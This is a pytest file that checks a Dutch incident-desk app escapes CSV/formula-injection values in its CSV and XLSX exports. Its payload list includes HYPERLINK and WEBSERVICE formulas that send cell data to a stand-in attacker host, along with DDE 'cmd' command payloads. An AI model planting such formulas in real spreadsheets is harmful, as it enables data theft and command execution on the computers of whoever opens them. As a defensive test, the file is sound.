"""Formula injection (OWASP CSV injection): no cell the app writes is a formula.

Imported platform, category and kenmerk values reach the overview CSV and XLSX; every text
cell that starts with ``= + - @``, TAB or CR is written with a leading apostrophe, and the
XLSX holds no formula cell at all.
"""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select

from skow_desk.importing.template import write_import_template
from skow_desk.reports.export import export_overview
from skow_desk.store.models import Incident, IncidentCategory

from .conftest import Register

TODAY = date(2026, 11, 24)
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    '=WEBSERVICE("http://evil.example/")',
    "cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
)


@pytest.mark.parametrize("value", PAYLOADS)
def test_safe_cell_escapes_every_dangerous_start(value: str) -> None:
    from skow_desk.domain.cells import safe_cell

    escaped = safe_cell(value)
    assert escaped.startswith("'") or value[:1] not in "=+-@\t\r"
    assert escaped[1:] == value or escaped == value


def test_safe_cell_leaves_ordinary_values_and_numbers() -> None:
    from skow_desk.domain.cells import safe_cell

    assert safe_cell("Instagram") == "Instagram"
    assert safe_cell(12) == 12
    assert safe_cell(None) is None
    assert safe_cell("") == ""


def _plant(db: object) -> None:
    with db.transaction() as s:  # type: ignore[attr-defined]
        incidents = list(s.scalars(select(Incident).order_by(Incident.id)))
        for number, incident in enumerate(incidents):
            incident.platform = PAYLOADS[number % len(PAYLOADS)][:60]
            incident.kenmerk = f"=cmd|'/C calc'!A{number}"
            s.add(IncidentCategory(incident_id=incident.id,
                                   name=PAYLOADS[(number + 1) % len(PAYLOADS)][:80]))


def test_overview_exports_write_no_formula(db, register: Register, tmp_path: Path) -> None:
    _plant(db)
    csv_path, xlsx_path = tmp_path / "o.csv", tmp_path / "o.xlsx"
    export_overview(db, "2025-2026", None, csv_path, today=TODAY)
    export_overview(db, "2025-2026", None, xlsx_path, today=TODAY)
    with open(csv_path, encoding="utf-8-sig", newline="") as handle:
        cells = [c for row in csv.reader(handle, delimiter=";") for c in row]
    assert any("HYPERLINK" in c or "cmd|" in c for c in cells)  # the payloads are written
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
    workbook = openpyxl.load_workbook(xlsx_path)
    formulas, texts = [], []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append((sheet.title, cell.coordinate, cell.value))
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    assert formulas == []
    assert any("WEBSERVICE" in t for t in texts)
    assert not [t for t in texts if t[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_import_template_writes_no_formula(tmp_path: Path, suffix: str) -> None:
    out = tmp_path / f"sjabloon{suffix}"
    write_import_template(out)
    if suffix == ".xlsx":
        workbook = openpyxl.load_workbook(out)
        assert [c.coordinate for s in workbook.worksheets for r in s.iter_rows() for c in r
                if c.data_type == "f"] == []
    else:
        with open(out, encoding="utf-8-sig", newline="") as handle:
            cells = [c for row in csv.reader(handle, delimiter=";") for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
